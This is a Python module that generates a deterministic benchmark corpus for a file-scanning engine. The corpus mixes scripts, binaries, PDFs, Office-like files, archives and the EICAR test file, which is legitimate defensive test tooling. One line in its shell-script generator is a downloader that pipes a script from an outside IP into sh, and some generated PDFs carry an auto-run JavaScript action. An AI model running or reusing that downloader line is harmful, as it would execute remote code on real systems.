"""A deterministic (seeded) benchmark corpus: small, medium, large and a realistic mix.

Files are generated in memory from a seed, never downloaded, and look like what a mail or
upload gateway sees: text, scripts and JSON; PE, ELF, PDF (some with JavaScript),
Office-like containers and a macro document; zips and tar.gz archives, some holding the
EICAR test file. The engine limit and the end-to-end runs use the same corpus, so their
ratio is the cost of the machinery around the engine.
"""

from __future__ import annotations

import gzip
import io
import json
import random
import shutil
import tarfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from samples.basic import office_macro_document

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
VOCABULARY = ["invoice", "payment", "account", "update", "http://example.com/a", "please", "open",
              "attached", "document", "powershell", "download", "user@example.org", "10.0.0.1",
              "report", "the", "and", "for", "with", "urgent", "delivery"]  # fmt: skip


@dataclass(frozen=True)
class Sample:
    name: str
    content: bytes


def words(rng: random.Random, size: int) -> bytes:
    text, total = [], 0
    while total < size:
        word = rng.choice(VOCABULARY)
        text.append(word)
        total += len(word) + 1
    return " ".join(text).encode()[:size]


def _entry(name: str) -> zipfile.ZipInfo:
    # A fixed timestamp: zipfile would otherwise stamp the current time and break determinism.
    info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
    info.compress_type = zipfile.ZIP_DEFLATED
    return info


def zip_of(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in members.items():
            archive.writestr(_entry(name), data)
    return buffer.getvalue()


def tar_gz_of(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size, info.mtime = len(data), 1_700_000_000
            archive.addfile(info, io.BytesIO(data))
    return gzip.compress(buffer.getvalue(), mtime=0)


def text_file(rng: random.Random, size: int) -> bytes:
    return words(rng, size)


def script_file(rng: random.Random, size: int) -> bytes:
    lines = [b"#!/bin/sh"]
    while sum(len(line) + 1 for line in lines) < size:
        lines.append(b"echo " + words(rng, 40))
    if rng.random() < 0.1:
        lines.append(b"curl -s http://198.51.100.7/x.sh | sh")  # a downloader now and then
    return b"\n".join(lines)


def json_file(rng: random.Random, size: int) -> bytes:
    records: list[dict] = []
    while len(json.dumps(records)) < size:
        records.append({"id": rng.randrange(10**9), "text": words(rng, 40).decode(), "score": rng.random()})
    return json.dumps(records).encode()


def pe_file(rng: random.Random, size: int) -> bytes:
    """A real PE (a launcher pip ships), padded with an overlay up to `size`."""
    base = _pe_launcher()
    if base is None:
        return random_blob(rng, size)
    return base + rng.randbytes(max(0, size - len(base)))


def elf_file(rng: random.Random, size: int) -> bytes:
    found = shutil.which("true") or shutil.which("ls")
    return Path(found).read_bytes() if found else random_blob(rng, size)


def pdf_file(rng: random.Random, size: int) -> bytes:
    action = b" /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>" if rng.random() < 0.2 else b""
    return (
        b"%PDF-1.7\n1 0 obj << /Type /Catalog"
        + action
        + b" >> endobj\n2 0 obj ("
        + words(rng, size)
        + b") endobj\n%%EOF\n"
    )


def office_like(rng: random.Random, size: int) -> bytes:
    return zip_of(
        {
            "[Content_Types].xml": b'<?xml version="1.0"?><Types/>',
            "word/document.xml": b"<w:document>" + words(rng, size) + b"</w:document>",
            "docProps/core.xml": b"<cp:coreProperties/>",
        }
    )


def macro_document(rng: random.Random, size: int) -> bytes:
    return office_macro_document()


def zip_of_files(rng: random.Random, size: int) -> bytes:
    count = rng.randint(2, 5)
    return zip_of({f"f{index}.txt": words(rng, size // count) for index in range(count)})


def eicar_zip(rng: random.Random, size: int) -> bytes:
    return zip_of({"eicar.com": EICAR, "readme.txt": words(rng, size)})


def tar_gz_file(rng: random.Random, size: int) -> bytes:
    return tar_gz_of({f"d/f{index}.txt": words(rng, size // 4) for index in range(4)})


def random_blob(rng: random.Random, size: int) -> bytes:
    return rng.randbytes(size)


def _pe_launcher() -> bytes | None:
    try:
        import pip._vendor.distlib as distlib
    except ImportError:
        return None
    launchers = sorted(Path(distlib.__file__).parent.glob("*.exe"))
    return launchers[0].read_bytes() if launchers else None


Maker = Callable[[random.Random, int], bytes]
SMALL: list[tuple[str, Maker]] = [("txt", text_file), ("sh", script_file), ("json", json_file)]
MEDIUM: list[tuple[str, Maker]] = [
    ("exe", pe_file), ("pdf", pdf_file), ("docx", office_like), ("zip", zip_of_files),
    ("tar.gz", tar_gz_file), ("eicar.zip", eicar_zip), ("doc", macro_document), ("elf", elf_file),
]  # fmt: skip
LARGE: list[tuple[str, Maker]] = [("bin", random_blob), ("exe", pe_file), ("zip", zip_of_files)]
SIZES = {"small": (1024, 8 * 1024), "medium": (50 * 1024, 500 * 1024), "large": (5 * 1024**2, 50 * 1024**2)}
KINDS = ("small", "medium", "large", "mixed")


def generate(kind: str, count: int, seed: int = 1, scale: float = 1.0) -> list[Sample]:
    """`count` samples of one kind (small, medium, large, mixed); `scale` shrinks sizes for quick runs."""
    rng = random.Random(f"{seed}:{kind}")
    samples = []
    for index in range(count):
        if kind == "mixed":
            # Mostly small files, some medium, rarely a large one: a mail gateway's day.
            bucket = rng.choices(["small", "medium", "large"], weights=[80, 19, 1])[0]
        else:
            bucket = kind
        makers = {"small": SMALL, "medium": MEDIUM, "large": LARGE}[bucket]
        extension, maker = makers[index % len(makers)]
        low, high = SIZES[bucket]
        size = max(64, int(rng.randint(low, high) * scale))
        samples.append(Sample(f"{bucket}-{index:05d}.{extension}", maker(rng, size)))
    return samples


def total_bytes(samples: list[Sample]) -> int:
    return sum(len(sample.content) for sample in samples)
